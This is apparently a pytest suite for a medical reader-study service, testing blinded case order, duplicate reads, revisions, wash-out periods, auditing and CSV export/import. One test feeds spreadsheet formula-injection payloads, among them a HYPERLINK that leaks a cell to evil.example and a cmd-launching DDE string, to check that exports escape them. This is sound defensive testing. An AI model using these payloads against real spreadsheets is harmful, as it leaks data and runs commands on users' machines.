"""Reader studies: set-up, blind reading order, one read per reader/case/arm, versions, wash-out, audit, export and
import, and many readers at once. Every test runs on SQLite and on a real PostgreSQL server."""

from __future__ import annotations

import dataclasses
import threading
from datetime import timedelta

import pandas as pd
import pytest
from sqlalchemy import func, select

from db import repo
from db.models import ArmCase, AuditEvent, Read, Study, StudyCase, User, utcnow
from db.session import init_db, session_scope
from services import exports, studies
from services.studies import ArmSpec, StudyError
from tests.conftest import signs_in
from tests.postgres import reset_database

N_CASES = 12


@pytest.fixture(params=["sqlite", "postgresql"])
def db(request, workspace, monkeypatch):
    """A database with a PI, three readers, a clinician and 16 labelled specimens with FL and WL images (12 test,
    4 train). Yields ``(url, ids)``."""
    if request.param == "sqlite":
        url = f"sqlite:///{workspace / 'study.db'}"
    else:
        url = request.getfixturevalue("postgres_url")
        reset_database(url)
    monkeypatch.setenv("IOAI_DATABASE_URL", url)
    init_db(url)
    ids: dict[str, object] = {}
    with session_scope(url) as s:
        ids["pi"] = repo.create_user(s, "pi", "pi-password", "pi").id
        ids["clinician"] = repo.create_user(s, "doc", "doc-password", "clinician").id
        ids["readers"] = [repo.create_user(s, f"r{i}", f"r{i}-password", "reader").id for i in range(1, 4)]
        test, train = [], []
        for i in range(16):
            split = "test" if i < N_CASES else "train"
            sid = repo.add_specimen(s, f"P{i % 4}", f"S{i:02d}", split=split, tumor=i % 3 != 0)
            for modality in ("FL", "WL"):
                repo.add_specimen_image(s, sid, modality, f"images/{modality}{i}.png", f"{i:064d}", 8, 8)
            (test if split == "test" else train).append(sid)
        ids["test"], ids["train"] = test, train
    return url, ids


ARMS = (ArmSpec("FL", "FL"), ArmSpec("WL", "WL"))


def _create(url, ids, title="Paper design", **options):
    options.setdefault("reader_ids", ids["readers"])
    with session_scope(url) as s:
        return studies.create_study(
            s, title=title, task="tumor", specimen_ids=ids["test"], arms=ARMS, created_by=ids["pi"], **options
        )


def _state(url, study_id, reader_id, **kw):
    with session_scope(url) as s:
        return studies.reader_state(s, study_id, reader_id, **kw)


def _answer(url, study_id, reader_id, label=1, rating=4, **kw):
    """Answer whatever case the server serves this reader now."""
    case = _state(url, study_id, reader_id).case
    return case, studies.record_read(
        study_id=study_id,
        reader_id=reader_id,
        arm_id=case.arm_id,
        token=case.token,
        label=label,
        rating=rating,
        **kw,
    )


def _case_of(session, case) -> int:
    """The study case id behind a served case's token (the server's side of the token)."""
    return session.scalar(select(ArmCase.case_id).where(ArmCase.token == case.token, ArmCase.arm_id == case.arm_id))


def test_a_reader_reads_every_case_once_per_arm_in_a_stable_shuffled_order(db):
    url, ids = db
    study = _create(url, ids)
    assert (study.n_cases, [a.name for a in study.arms], study.frozen) == (N_CASES, ["FL", "WL"], False)
    reader = ids["readers"][0]
    seen = []
    for k in range(1, 2 * N_CASES + 1):
        again = _state(url, study.id, reader)  # a refresh or a new session serves the same case
        case, result = _answer(url, study.id, reader)
        assert again.case.token == case.token and result.status == "recorded"
        assert (case.arm_number, case.k, case.n) == (1 + (k - 1) // N_CASES, 1 + (k - 1) % N_CASES, N_CASES)
        seen.append((case.arm_id, case.token))
    assert len(set(seen)) == 2 * N_CASES
    assert _state(url, study.id, reader).kind == "done"
    fl_tokens = [t for arm, t in seen if arm == study.arms[0].id]
    with session_scope(url) as s:
        position = dict(
            s.execute(select(ArmCase.token, StudyCase.position).join(StudyCase, ArmCase.case_id == StudyCase.id)).all()
        )
        assert s.get(Study, study.id).frozen_at is not None
    assert [position[t] for t in fl_tokens] != sorted(position[t] for t in fl_tokens)  # shuffled


def test_orders_differ_between_readers_and_arms(db):
    url, ids = db
    study = _create(url, ids)
    firsts = {}
    for reader in ids["readers"]:
        order = []
        for _ in range(N_CASES):
            case, _ = _answer(url, study.id, reader)
            order.append(case.token)
        firsts[reader] = order
        wl = [_answer(url, study.id, reader)[0].token for _ in range(3)]
        assert wl != order[:3]
    assert len({tuple(o) for o in firsts.values()}) == 3


def test_what_a_reader_is_sent_carries_no_truth_codes_or_file_names(db):
    url, ids = db
    study = _create(url, ids)
    case = _state(url, study.id, ids["readers"][0]).case
    # the random token may contain any two characters by chance; it is checked below for not being derived from ids
    sent = {f.name: getattr(case, f.name) for f in dataclasses.fields(case) if f.name not in ("image_path", "token")}
    text = repr(sent)
    assert case.ai is None
    assert "S0" not in text and "P0" not in text and "images/" not in text and "True" not in text
    assert "tumor" not in repr(case).replace(case.token, "")
    _create(url, ids, title="Same specimens")  # tokens are random, not derived from ids
    with session_scope(url) as s:
        tokens = s.execute(
            select(StudyCase.study_id, ArmCase.arm_id, StudyCase.specimen_id, ArmCase.token).join(
                StudyCase, ArmCase.case_id == StudyCase.id
            )
        ).all()
    by_specimen = {}
    for study_id, arm_id, specimen, token in tokens:
        by_specimen.setdefault(specimen, {})[(study_id, arm_id)] = token
    assert len(tokens) == 2 * 2 * N_CASES  # every case has its own token in every arm of every study
    assert all(len(set(t.values())) == 4 for t in by_specimen.values())  # none shared between arms or studies
    assert len({t for *_, t in tokens}) == len(tokens) and all(len(t) == 16 for *_, t in tokens)


def test_a_double_click_two_tabs_or_a_replayed_form_give_one_read(db):
    url, ids = db
    study = _create(url, ids)
    reader = ids["readers"][0]
    case = _state(url, study.id, reader).case
    kwargs = dict(study_id=study.id, reader_id=reader, arm_id=case.arm_id, token=case.token, rating=3)
    results = [None] * 6

    def submit(i):
        results[i] = studies.record_read(label=i % 2, **kwargs)

    threads = [threading.Thread(target=submit, args=(i,)) for i in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(r.status for r in results) == ["duplicate"] * 5 + ["recorded"]
    assert studies.record_read(label=0, **kwargs).status == "duplicate"
    with session_scope(url) as s:
        assert s.scalar(select(func.count(Read.id))) == 1


def test_an_answer_for_a_case_not_served_is_refused(db):
    url, ids = db
    study = _create(url, ids)
    reader, other = ids["readers"][:2]
    served = _state(url, study.id, reader).case
    with session_scope(url) as s:
        tokens = s.scalars(
            select(ArmCase.token).where(ArmCase.token != served.token, ArmCase.arm_id == served.arm_id)
        ).all()
        second_arm_token = s.scalar(
            select(ArmCase.token)
            .join(StudyCase, ArmCase.case_id == StudyCase.id)
            .where(ArmCase.arm_id == study.arms[1].id, StudyCase.id == _case_of(s, served))
        )
    with pytest.raises(StudyError, match="not the case you were shown"):
        studies.record_read(
            study_id=study.id, reader_id=reader, arm_id=served.arm_id, token=tokens[0], label=1, rating=5
        )
    with pytest.raises(StudyError, match="not the case you were shown"):  # the second arm before the first is done
        studies.record_read(
            study_id=study.id,
            reader_id=reader,
            arm_id=study.arms[1].id,
            token=second_arm_token,
            label=1,
            rating=5,
        )
    with pytest.raises(StudyError, match="No such case"):  # a token names its case in its own arm only
        studies.record_read(
            study_id=study.id, reader_id=reader, arm_id=study.arms[1].id, token=served.token, label=1, rating=5
        )
    with pytest.raises(StudyError, match="No such case"):
        studies.record_read(
            study_id=study.id, reader_id=reader, arm_id=served.arm_id, token="forged", label=1, rating=5
        )
    with pytest.raises(StudyError, match="confidence from 1 to 5"):
        studies.record_read(
            study_id=study.id,
            reader_id=reader,
            arm_id=served.arm_id,
            token=served.token,
            label=1,
            rating=9,
        )
    with session_scope(url) as s:
        uninvited = repo.create_user(s, "r9", "r9-password", "reader").id
        assert studies.reader_state(s, study.id, uninvited).kind == "refused"
        assert studies.reader_state(s, study.id, ids["pi"]).kind == "refused"
    with pytest.raises(StudyError, match="not assigned"):
        studies.record_read(
            study_id=study.id,
            reader_id=uninvited,
            arm_id=served.arm_id,
            token=served.token,
            label=1,
            rating=5,
        )
    with session_scope(url) as s:
        assert s.scalar(select(func.count(Read.id))) == 0


def test_corrections_are_new_versions_only_where_allowed(db):
    url, ids = db
    locked = _create(url, ids, title="No going back")
    reader = ids["readers"][0]
    case, _ = _answer(url, locked.id, reader, label=1, rating=2)
    with pytest.raises(StudyError, match="does not allow"):
        studies.record_read(
            study_id=locked.id, reader_id=reader, arm_id=case.arm_id, token=case.token, label=0, rating=5,
            revise=True,
        )  # fmt: skip
    with session_scope(url) as s:
        assert studies.revisable_cases(s, locked.id, reader) == []
    open_ = _create(url, ids, title="Corrections allowed", allow_revisions=True)
    case, _ = _answer(url, open_.id, reader, label=1, rating=2, comment="first look")
    with session_scope(url) as s:
        (arm_id, arm_name, token, k, words), *_ = studies.revisable_cases(s, open_.id, reader)
        assert (token, k, words) == (case.token, 1, "tumor, confidence 2")
        again = studies.case_for_revision(s, open_.id, reader, arm_id, token)
        assert again.previous == (1, 2, "first look")
    result = studies.record_read(
        study_id=open_.id, reader_id=reader, arm_id=arm_id, token=token, label=0, rating=5, revise=True
    )
    assert (result.status, result.version) == ("revised", 2)
    with session_scope(url) as s:
        history = s.execute(select(Read.version, Read.label, Read.rating).order_by(Read.version)).all()
        assert [tuple(r) for r in history if r][-2:] == [(1, 1, 2), (2, 0, 5)]
        latest = studies.export_reads(s, open_.id)
        full = studies.export_reads(s, open_.id, history=True)
    assert (len(latest), latest.loc[0, "label"], latest.loc[0, "version"]) == (1, 0, 2)
    assert list(full["version"]) == [1, 2]
    assert _state(url, open_.id, reader).case.k == 2  # a correction does not advance or repeat the order


def test_cases_and_arms_freeze_at_the_first_read(db):
    url, ids = db
    study = _create(url, ids)
    with session_scope(url) as s:
        changed = studies.update_study(s, study.id, user_id=ids["pi"], specimen_ids=ids["test"][:6])
        assert changed.n_cases == 6
    _answer(url, study.id, ids["readers"][0])
    with pytest.raises(StudyError, match="frozen"), session_scope(url) as s:
        studies.update_study(s, study.id, user_id=ids["pi"], arms=[ArmSpec("FL only", "FL")])
    with pytest.raises(StudyError, match="frozen"), session_scope(url) as s:
        studies.update_study(s, study.id, user_id=ids["pi"], rating_scale="hundred")
    with session_scope(url) as s:
        assert studies.update_study(s, study.id, user_id=ids["pi"], title="Renamed").title == "Renamed"
        assert studies.get_study(s, study.id).n_cases == 6


def test_set_up_is_validated(db):
    url, ids = db
    with session_scope(url) as s:
        model = repo.register_model(
            s, name="m", architecture="tiny_cnn", task="tumor", modality="WL", image_size=32, checkpoint_path="x",
            checkpoint_sha256="0" * 64, threshold=0.5, threshold_policy="fixed", metrics={}, config={},
        )  # fmt: skip
    cases = [
        (dict(title=""), "title"),
        (dict(arms=()), "at least one arm"),
        (dict(arms=(ArmSpec("A", "FL"), ArmSpec("A", "WL"))), "names must differ"),
        (dict(arms=(ArmSpec("AI", "FL", show_probability=True),)), "choose the model"),
        (dict(arms=(ArmSpec("AI", "FL", model_id=model.id, show_decision=True),)), "reads WL"),
        (dict(arms=(ArmSpec("CLE", "CLE"),)), "lack an image"),
        (dict(reader_ids=[ids["clinician"]]), "not a reader"),
        (dict(training_specimen_ids=ids["test"][:1]), "cannot also be a study case"),
    ]
    for options, message in cases:
        arguments = (
            dict(title="T", task="tumor", specimen_ids=ids["test"], arms=ARMS, reader_ids=ids["readers"]) | options
        )
        with pytest.raises(StudyError, match=message), session_scope(url) as s:
            studies.create_study(s, **arguments)
    _create(url, ids, title="Once")
    with pytest.raises(StudyError, match="exists already"):
        _create(url, ids, title="Once")
    with session_scope(url) as s:
        assert len(studies.list_studies(s)) == 1


def test_training_cases_come_first_with_their_truth(db):
    url, ids = db
    study = _create(url, ids, training_specimen_ids=ids["train"][:2])
    reader = ids["readers"][0]
    assert _state(url, study.id, reader).kind == "training"
    with session_scope(url) as s:
        shown = studies.training_cases(s, study.id, reader)
        assert [truth for _, _, truth in shown] == ["non-tumor", "tumor"] and shown[0][1] == "FL"
        studies.complete_training(s, study.id, reader)
    assert _state(url, study.id, reader).kind == "case"
    assert _state(url, study.id, ids["readers"][1]).kind == "training"


def test_the_wash_out_between_arms_is_enforced(db):
    url, ids = db
    study = _create(url, ids, title="Sequential")
    with session_scope(url) as s:
        study = studies.update_study(
            s, study.id, user_id=ids["pi"], arms=[ArmSpec("unaided", "FL"), ArmSpec("again", "FL", washout_days=14)]
        )
    reader = ids["readers"][0]
    for _ in range(N_CASES):
        _answer(url, study.id, reader)
    waiting = _state(url, study.id, reader)
    assert waiting.kind == "washout" and "14-day wash-out" in waiting.message
    case = _state(url, study.id, reader, now=utcnow() + timedelta(days=14, minutes=1)).case
    assert case.arm_number == 2
    with pytest.raises(StudyError, match="not the case"):
        studies.record_read(
            study_id=study.id, reader_id=reader, arm_id=case.arm_id, token=case.token, label=1, rating=1
        )
    later = studies.record_read(
        study_id=study.id, reader_id=reader, arm_id=case.arm_id, token=case.token, label=1, rating=1,
        now=utcnow() + timedelta(days=15),
    )  # fmt: skip
    assert later.status == "recorded"


def test_a_closed_study_takes_no_reads_and_progress_is_per_reader_and_arm(db):
    url, ids = db
    study = _create(url, ids)
    for _ in range(3):
        _answer(url, study.id, ids["readers"][0], shown_at=utcnow() - timedelta(seconds=5))
    with session_scope(url) as s:
        progress = studies.study_progress(s, study.id)
        studies.set_status(s, study.id, "closed", user_id=ids["pi"])
    row = progress[(progress.reader == "r1") & (progress.arm == "FL")].iloc[0]
    assert (row.answered, row.cases, row.done) == (3, N_CASES, "25%") and row.mean_s_per_case >= 5
    assert len(progress) == 6 and progress.answered.sum() == 3
    assert _state(url, study.id, ids["readers"][0]).kind == "closed"
    with session_scope(url) as s:
        case = s.scalars(select(ArmCase.token).where(ArmCase.arm_id == study.arms[0].id)).first()
    with pytest.raises(StudyError, match="closed"):
        studies.record_read(
            study_id=study.id, reader_id=ids["readers"][1], arm_id=study.arms[0].id, token=case, label=1, rating=2,
        )  # fmt: skip


def test_every_change_read_and_export_is_audited(db):
    url, ids = db
    study = _create(url, ids)
    _answer(url, study.id, ids["readers"][0])
    exports.reads_csv(study.id, user_id=ids["pi"])
    exports.cases_csv(study.id, user_id=ids["pi"])
    with session_scope(url) as s:
        studies.set_status(s, study.id, "closed", user_id=ids["pi"])
    with session_scope(url) as s:
        log = s.execute(select(AuditEvent.action, AuditEvent.user_id).order_by(AuditEvent.id)).all()
    assert [tuple(e) for e in log] == [
        ("study_created", ids["pi"]),
        ("read_recorded", ids["readers"][0]),
        ("reads_exported", ids["pi"]),
        ("cases_exported", ids["pi"]),
        ("study_closed", ids["pi"]),
    ]


def test_export_then_import_round_trips_and_bad_rows_are_named(db):
    url, ids = db
    source = _create(url, ids, title="Collected in the browser")
    for reader in ids["readers"][:2]:
        for _ in range(4):
            _answer(url, source.id, reader, label=0, rating=2, comment="pale, no tumor cells")
    with session_scope(url) as s:
        exported = studies.export_reads(s, source.id)
        truth = studies.export_cases(s, source.id)
    assert list(exported.columns) == list(studies.EXPORT_COLUMNS) and len(exported) == 8
    assert set(truth["truth"]) == {0, 1} and len(truth) == N_CASES
    target = _create(url, ids, title="Collected on paper", reader_ids=[])
    csv = exported.to_csv(index=False)
    with session_scope(url) as s:
        report = studies.import_reads(s, target.id, csv, user_id=ids["pi"], allow_active_readers=True)
    assert (report.imported, report.errors) == (8, [])
    with session_scope(url) as s:
        again = studies.export_reads(s, target.id)
        assert s.get(Study, target.id).frozen_at is not None
    columns = ["case_id", "reader_id", "arm", "label", "rating", "comment"]
    pd.testing.assert_frame_equal(again[columns], exported[columns])

    bad = exported.head(3).copy()
    bad.loc[0, "case_id"] = "NOPE"
    bad.loc[1, "rating"] = 7
    bad.loc[2, "reader_id"] = "stranger"
    bad = pd.concat([bad, bad.tail(1)])
    with session_scope(url) as s:
        refused = studies.import_reads(s, target.id, bad.to_csv(index=False), user_id=ids["pi"])
        for text, message in [
            (b"case_id,reader\nS00,r1\n", "missing column"),
            (b"\xff\xfe\x00garbage", "not a readable CSV"),
            ("case_id,reader_id,arm,label,rating\n", "no rows"),
        ]:
            assert message in studies.import_reads(s, target.id, text, user_id=ids["pi"]).errors[0]
    assert refused.imported == 0 and len(refused.errors) == 4
    assert refused.errors[0].startswith("line 2: unknown case_id 'NOPE'")
    assert "rating must be a whole number from 1 to 5" in refused.errors[1]
    assert "unknown reader 'stranger'" in refused.errors[2] and "duplicate read: line 4" in refused.errors[3]
    assert "already answered" in refused.errors[1]  # the good rows of the first import stay, once
    with session_scope(url) as s:
        assert s.scalar(select(func.count(Read.id)).where(Read.study_id == target.id)) == 8


def test_import_can_create_inactive_reader_accounts(db):
    url, ids = db
    study = _create(url, ids, reader_ids=[])
    rows = "case_id,reader_id,arm,label,rating,duration_s\nS00,paper-reader,FL,1,5,12.5\nS01,paper-reader,WL,0,1,\n"
    with session_scope(url) as s:
        assert "unknown reader" in studies.import_reads(s, study.id, rows, user_id=ids["pi"]).errors[0]
        report = studies.import_reads(s, study.id, rows, user_id=ids["pi"], create_readers=True)
    assert (report.imported, report.created_readers) == (2, ["paper-reader"])
    with session_scope(url) as s:
        assert signs_in(s, "paper-reader", "") is None
        assert studies.get_study(s, study.id).reader_ids != ()
        durations = s.scalars(select(Read.duration_s).order_by(Read.id)).all()
    assert durations == [12.5, None]


def test_many_readers_at_once(db):
    url, ids = db
    study = _create(url, ids)
    errors = []

    def read_all(reader):
        try:
            for _ in range(2 * N_CASES):
                _, result = _answer(url, study.id, reader)
                assert result.status == "recorded"
        except Exception as error:  # noqa: BLE001 - surfaced by the assertion below
            errors.append(error)

    threads = [threading.Thread(target=read_all, args=(r,)) for r in ids["readers"]]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    with session_scope(url) as s:
        counts = s.execute(select(Read.reader_id, func.count(func.distinct(Read.case_id))).group_by(Read.reader_id))
        assert dict(counts.all()) == {r: N_CASES for r in ids["readers"]}
        assert s.scalar(select(func.count(Read.id))) == 3 * 2 * N_CASES


def _finish_arm(url, study_id, reader, n=N_CASES, **kw):
    return [_answer(url, study_id, reader, **kw)[0] for _ in range(n)]


def test_corrections_stay_inside_the_arm_the_reader_is_in(db):
    """Once a later arm opens, answers of the earlier one are closed to corrections (issue 13, item 1)."""
    url, ids = db
    study = _create(url, ids, title="Two unaided arms", allow_revisions=True)
    reader = ids["readers"][0]
    first_arm = _finish_arm(url, study.id, reader)
    with session_scope(url) as s:  # the WL arm is open now (no wash-out): nothing of FL can be reopened
        assert studies.revisable_cases(s, study.id, reader) == []
        with pytest.raises(StudyError, match="only be corrected in the arm you are reading"):
            studies.case_for_revision(s, study.id, reader, first_arm[0].arm_id, first_arm[0].token)
    with pytest.raises(StudyError, match="only be corrected in the arm you are reading"):
        studies.record_read(
            study_id=study.id, reader_id=reader, arm_id=first_arm[0].arm_id, token=first_arm[0].token, label=0,
            rating=5, revise=True,
        )  # fmt: skip
    wl, _ = _answer(url, study.id, reader)
    with session_scope(url) as s:
        assert [(a, t) for a, _, t, _, _ in studies.revisable_cases(s, study.id, reader)] == [(wl.arm_id, wl.token)]
    fixed = studies.record_read(
        study_id=study.id, reader_id=reader, arm_id=wl.arm_id, token=wl.token, label=0, rating=5, revise=True
    )
    assert fixed.status == "revised"
    with session_scope(url) as s:
        assert s.scalar(select(func.count(Read.id)).where(Read.arm_id == first_arm[0].arm_id, Read.version > 1)) == 0


def test_during_a_washout_the_finished_arm_stays_correctable_until_the_next_opens(db):
    url, ids = db
    arms = (ArmSpec("FL", "FL"), ArmSpec("WL", "WL", washout_days=14))
    with session_scope(url) as s:
        study = studies.create_study(
            s, title="Wash-out", task="tumor", specimen_ids=ids["test"], arms=arms, reader_ids=ids["readers"],
            allow_revisions=True,
        )  # fmt: skip
    reader = ids["readers"][0]
    first_arm = _finish_arm(url, study.id, reader)
    with session_scope(url) as s:
        assert len(studies.revisable_cases(s, study.id, reader)) == N_CASES
        assert studies.revisable_cases(s, study.id, reader, now=utcnow() + timedelta(days=15)) == []
    revised = studies.record_read(
        study_id=study.id, reader_id=reader, arm_id=first_arm[0].arm_id, token=first_arm[0].token, label=0,
        rating=1, revise=True,
    )  # fmt: skip
    assert revised.status == "revised"
    with pytest.raises(StudyError, match="only be corrected"):
        studies.record_read(
            study_id=study.id, reader_id=reader, arm_id=first_arm[0].arm_id, token=first_arm[0].token, label=1,
            rating=1, revise=True, now=utcnow() + timedelta(days=15),
        )  # fmt: skip


def test_an_unaided_arm_is_never_corrected_after_the_ai_was_shown(db):
    url, ids = db
    with session_scope(url) as s:
        model = repo.register_model(
            s, name="fl-model", architecture="tiny_cnn", task="tumor", modality="FL", image_size=32,
            checkpoint_path="models/none", checkpoint_sha256="0" * 64, threshold=0.5, threshold_policy="fixed",
            metrics={}, config={},
        )  # fmt: skip
        study = studies.create_study(
            s, title="AI first", task="tumor", specimen_ids=ids["test"], reader_ids=ids["readers"],
            arms=(ArmSpec("FL+AI", "FL", model_id=model.id, show_probability=True), ArmSpec("WL", "WL")),
            allow_revisions=True,
        )  # fmt: skip
    reader = ids["readers"][0]
    aided, _ = _answer(url, study.id, reader)
    with session_scope(url) as s:  # inside the aided arm, corrections are fine
        assert [t for _, _, t, _, _ in studies.revisable_cases(s, study.id, reader)] == [aided.token]
    _finish_arm(url, study.id, reader, n=N_CASES - 1)
    unaided, _ = _answer(url, study.id, reader)
    with session_scope(url) as s:
        assert studies.revisable_cases(s, study.id, reader) == []
    with pytest.raises(StudyError, match="never in an unaided arm after the AI"):
        studies.record_read(
            study_id=study.id, reader_id=reader, arm_id=unaided.arm_id, token=unaided.token, label=0, rating=5,
            revise=True,
        )  # fmt: skip


def test_a_deactivated_reader_cannot_store_a_pending_answer(db):
    url, ids = db
    study = _create(url, ids)
    reader = ids["readers"][0]
    served = _state(url, study.id, reader).case  # the form is on their screen
    with session_scope(url) as s:
        s.get(User, reader).active = False
    with pytest.raises(StudyError, match="deactivated"):
        studies.record_read(
            study_id=study.id, reader_id=reader, arm_id=served.arm_id, token=served.token, label=1, rating=3
        )
    assert _state(url, study.id, reader).kind == "refused"
    with session_scope(url) as s:
        assert s.scalar(select(func.count(Read.id))) == 0


def test_formula_cells_leave_the_export_escaped_and_import_back_as_typed(db):
    """Issue 13, item 4: a comment ``=HYPERLINK(...)`` and a reader id ``@evil`` are text in every spreadsheet
    (a leading ``'``), and the study's own file imports back to the original strings."""
    import csv
    import io

    from core.text import FORMULA_TRIGGERS
    from services import exports

    url, ids = db
    with session_scope(url) as s:
        evil = repo.create_user(s, "@evil", "evil-password", "reader").id
    source = _create(url, ids, title="Typed by people", reader_ids=[evil])
    comments = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)", "-2+3", "+cmd|' /C calc'!A0"]
    for comment in comments:
        _answer(url, source.id, evil, comment=comment)
    data = exports.reads_csv(source.id, user_id=ids["pi"])
    rows = list(csv.DictReader(io.StringIO(data.decode())))
    assert {r["reader_id"] for r in rows} == {"'@evil"}
    assert sorted(r["comment"] for r in rows) == sorted("'" + c for c in comments)
    for row in rows:  # no cell of the file starts a formula
        assert not any(cell[:1] in FORMULA_TRIGGERS for cell in row.values() if cell)
    target = _create(url, ids, title="Imported", reader_ids=[])
    with session_scope(url) as s:
        report = studies.import_reads(s, target.id, data, user_id=ids["pi"], allow_active_readers=True)
    assert (report.imported, report.errors) == (4, [])
    with session_scope(url) as s:
        again = studies.export_reads(s, target.id)
    assert set(again["reader_id"]) == {"@evil"} and sorted(again["comment"]) == sorted(comments)


def test_non_finite_ratings_and_durations_are_refused_by_line(db):
    url, ids = db
    study = _create(url, ids, reader_ids=[])
    rows = "\n".join(
        [
            "case_id,reader_id,arm,label,rating,duration_s",
            "S00,paper,FL,1,inf,",
            "S01,paper,FL,1,nan,",
            "S02,paper,FL,1,1e309,",
            "S03,paper,FL,1,-inf,",
            "S04,paper,FL,1,3,inf",
            "S05,paper,FL,1,3,nan",
            "S06,paper,FL,1,3,1e309",
            "S07,paper,FL,1,3,12.5",
        ]
    )
    with session_scope(url) as s:
        report = studies.import_reads(s, study.id, rows, user_id=ids["pi"], create_readers=True)
    assert report.imported == 0 and len(report.errors) == 7
    for line, text in zip(range(2, 6), ("inf", "nan", "1e309", "-inf"), strict=True):
        assert report.errors[line - 2] == f"line {line}: rating must be a whole number from 1 to 5, not {text!r}"
    for line, text in zip(range(6, 9), ("inf", "nan", "1e309"), strict=True):
        expected = f"line {line}: duration_s must be a non-negative number of seconds, not {text!r}"
        assert report.errors[line - 2] == expected


def test_answered_at_with_an_offset_is_stored_as_the_same_instant_in_utc(db):
    from datetime import UTC, datetime

    from sqlalchemy import text

    url, ids = db
    study = _create(url, ids, reader_ids=[])
    rows = (
        "case_id,reader_id,arm,label,rating,answered_at\n"
        "S00,paper,FL,1,3,2026-01-02T10:00:00+02:00\n"
        "S01,paper,FL,1,3,2026-01-02T03:00:00-05:00\n"
        "S02,paper,FL,1,3,2026-01-02 08:00:00\n"  # no offset: UTC
    )
    with session_scope(url) as s:
        today = rows.replace("2026-01-02 08:00:00", "today")
        refused = studies.import_reads(s, study.id, today, user_id=ids["pi"], create_readers=True)
        report = studies.import_reads(s, study.id, rows, user_id=ids["pi"], create_readers=True)
    assert refused.errors[0].startswith("line 4: answered_at 'today' is not a date and time")
    assert report.errors == []
    eight = datetime(2026, 1, 2, 8, 0, tzinfo=UTC)
    with session_scope(url) as s:
        stored = s.scalars(select(Read.answered_at).where(Read.study_id == study.id).order_by(Read.id)).all()
        raw = s.execute(text("SELECT answered_at FROM reads WHERE study_id = :s"), {"s": study.id}).scalars().all()
        exported = studies.export_reads(s, study.id)
    assert stored == [eight] * 3 and all(value.utcoffset().total_seconds() == 0 for value in stored)
    if url.startswith("sqlite"):  # the file itself holds the UTC wall clock
        assert all(str(value).startswith("2026-01-02 08:00:00") for value in raw)
    else:
        assert all(value == eight for value in raw)
    assert {str(v) for v in exported["answered_at"]} == {"2026-01-02 08:00:00+00:00"}


def test_reads_under_an_active_reader_need_permission_and_name_readers_and_cases_in_the_audit(db):
    url, ids = db
    study = _create(url, ids, reader_ids=[])
    with session_scope(url) as s:
        s.get(User, ids["readers"][2]).active = False  # r3 was deactivated: cannot sign in
    rows = (
        "case_id,reader_id,arm,label,rating\n"
        "S00,r1,FL,1,3\nS01,r1,WL,0,2\nS01,r1,FL,0,2\n"  # r1 is a live account
        "S02,r3,FL,1,4\nS03,paper,FL,1,5\n"
    )
    with session_scope(url) as s:
        refused = studies.import_reads(s, study.id, rows, user_id=ids["pi"], create_readers=True)
    assert refused.imported == 0 and [e[:7] for e in refused.errors] == ["line 2:", "line 3:", "line 4:"]
    assert all("'r1' is an active reader account" in e for e in refused.errors)
    with session_scope(url) as s:
        assert s.scalar(select(func.count(Read.id)).where(Read.study_id == study.id)) == 0
        report = studies.import_reads(
            s, study.id, rows, user_id=ids["pi"], create_readers=True, allow_active_readers=True
        )
    assert (report.imported, report.errors, report.created_readers) == (5, [], ["paper"])
    with session_scope(url) as s:
        event = s.scalars(select(AuditEvent).where(AuditEvent.action == "reads_imported")).one()
        assert (event.user_id, event.study_id) == (ids["pi"], study.id)
        assert event.detail["active_readers"] == {"r1": {"reads": 3, "cases": ["S00", "S01"]}}
        assert event.detail["created_readers"] == ["paper"]
